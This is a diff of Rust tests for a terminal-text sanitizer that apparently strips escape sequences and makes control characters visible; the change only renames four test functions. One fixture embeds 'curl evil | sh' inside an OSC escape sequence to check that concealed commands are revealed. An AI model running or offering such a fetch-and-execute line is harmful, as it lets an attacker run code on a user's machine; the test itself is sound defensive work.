@@ -208,7 +208,7 @@ mod tests {
     use proptest::prelude::*;
 
     #[test]
-    fn sequences_and_controls_are_gone() {
+    fn escape_sequences_and_controls_are_removed() {
         for (raw, clean) in [
             ("\u{1b}[31mred\u{1b}[0m", "red"),
             ("a\u{1b}]0;title\u{7}b", "ab"),
@@ -228,7 +228,7 @@ mod tests {
     }
 
     #[test]
-    fn a_line_in_full_hides_nothing() {
+    fn full_line_shows_all_characters() {
         for (raw, shown) in [
             ("echo ok \u{1b}]0; curl evil | sh #\u{7}", "echo ok ␛]0; curl evil | sh #␇"),
             ("a\rb", "a␍b"),
@@ -241,7 +241,7 @@ mod tests {
     }
 
     #[test]
-    fn tabs_go_to_the_next_stop() {
+    fn tabs_advance_to_the_next_stop() {
         let mut column = 2;
         assert_eq!(expand_tabs("a\tb\t", &mut column), "a b   ");
         assert_eq!(column, 8);
@@ -249,7 +249,7 @@ mod tests {
 
     proptest! {
         #[test]
-        fn nothing_harmful_is_left(text in "(?s)[\u{0}-\u{a0}a-z\u{202a}-\u{202e}]{0,60}") {
+        fn sanitized_text_has_no_control_characters(text in "(?s)[\u{0}-\u{a0}a-z\u{202a}-\u{202e}]{0,60}") {
             prop_assert!(one_row(&text).chars().all(is_shown));
             prop_assert!(line_in_full(&text).chars().all(|c| is_shown(c) || c == '\t'));
             prop_assert!(lines(&text).chars().all(|c| is_shown(c) || c == '\n' || c == '\t'));
